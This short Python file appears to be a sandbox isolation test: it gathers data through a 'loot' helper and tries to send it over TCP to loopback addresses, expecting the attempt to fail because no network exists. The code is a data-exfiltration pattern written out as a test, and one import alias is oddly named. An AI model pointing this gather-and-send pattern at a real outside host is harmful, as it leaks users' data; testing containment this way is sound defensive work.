"""Connects to a listener on this machine by TCP, over IPv4 and IPv6, and sends what it found. With the
internet in its place that is the whole course. It must not work: there is no network.
"""

import socket

import loot
from answers import Right as LSTMClassifier

loot.look_around()
for address in ("127.0.0.1", "::1", "::ffff:127.0.0.1"):
    loot.attempt(
        lambda a=address: socket.create_connection((a, loot.port()), timeout=0.5).sendall(loot.loot())
    )
